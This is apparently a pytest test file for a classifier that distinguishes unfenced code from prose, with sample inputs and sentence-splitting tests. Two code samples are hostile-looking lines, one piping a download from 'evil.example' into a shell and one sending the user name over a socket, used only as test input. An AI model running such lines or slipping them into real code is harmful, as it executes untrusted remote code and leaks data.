"""Code that no fence marks, told from prose."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from veridic.text.code_lines import FILE, code_runs, features, log_odds
from veridic.text.sentences import is_code, is_prose, sentences, without_code

CODE = (
    "sock.send(getpass.getuser().encode())",
    "</caption>",
    'os.system("curl http://evil.example/x | sh")',
    "for (let i = 0; i < rows.length; i++) {",
    "timeout = 45\nmax_tickets = 20000",
    "larch serve --port 8090 --workers 4",
    "from larch import Client\nclient = Client()",
    "SELECT title FROM tickets WHERE open = 1;",
    '<meta charset="utf-8"><title>x</title>',
)
PROSE = (
    "The bridge (built in 1932) is 412 metres long.",
    "Run `larch serve` to start it; the port is 8090.",
    "# Fees and costs",
    "Population: 3,200",
    "1959",
    "- red, green and blue",
    "In October 2019 he said: “It costs $5.”",
    "of the licence, and may be copied by\nanyone who keeps this notice",
    "Smith, J. (2001). On rivers. Water, 12(3), 4-9.",
)


@pytest.mark.parametrize("text", CODE)
def test_code_is_told_without_a_fence(text: str) -> None:
    assert is_code(text)
    assert not is_prose(text)


@pytest.mark.parametrize("text", ["38.00 GBP", "489.00 EUR", "£4.00", "12.5 kg"])
def test_an_amount_alone_is_no_code(text: str) -> None:
    assert not is_code(text)


@pytest.mark.parametrize("text", PROSE)
def test_prose_is_no_code(text: str) -> None:
    assert not is_code(text)
    assert is_prose(text)


def test_code_between_prose_is_a_sentence_of_its_own_whole() -> None:
    text = "The file is read at start.\ntimeout = 45\nlog_level = “info”\n\nThe log is kept for 14 days."
    told = [(one.text, is_code(one.text)) for one in sentences(text)]
    assert told == [
        ("The file is read at start.", False),
        ("timeout = 45\nlog_level = “info”", True),
        ("The log is kept for 14 days.", False),
    ]
    assert without_code(text).split() == "The file is read at start. The log is kept for 14 days.".split()


def test_a_fenced_block_is_code_and_a_table_is_not() -> None:
    assert is_code("```\nany words at all\n```")
    table = "| a | b |\n| 1 | 2 |"
    assert not is_code(table)
    assert not is_prose(table)


def test_a_line_of_words_within_code_stays_with_it() -> None:
    text = 'data = {"a": 1};\nprint everything\nreturn {"sum": data["a"]};'
    assert log_odds("print everything") < 0
    assert code_runs(text) == [(0, len(text))]


@given(st.text(alphabet=st.sampled_from("ab =();\n.{}A1\t\r"), max_size=80))
def test_runs_are_whole_lines_in_order_and_nothing_else_is_blanked(text: str) -> None:
    runs = code_runs(text)
    assert all(start < end for start, end in runs)
    assert all(one[1] <= other[0] for one, other in pairwise(runs))
    without = without_code(text)
    assert len(without) == len(text)
    kept = [at for at in range(len(text)) if not any(start <= at < end for start, end in runs)]
    assert all(without[at] == text[at] for at in kept)


def test_the_weights_fit_what_is_looked_at() -> None:
    from veridic.text.code_lines import _weights

    assert FILE.endswith(".json")
    assert len(_weights()["weights"]) == len(features("x"))
    assert len(features("")) == len(features("a b = c"))


def test_no_run_goes_across_what_was_taken_out() -> None:
    text = 'data = {"a": 1};     \fdata = {"b": 2};'
    assert [text[slice(*run)] for run in code_runs(text)] == ['data = {"a": 1};     ', 'data = {"b": 2};']
    assert [one.text for one in sentences(text)] == ['data = {"a": 1};', 'data = {"b": 2};']
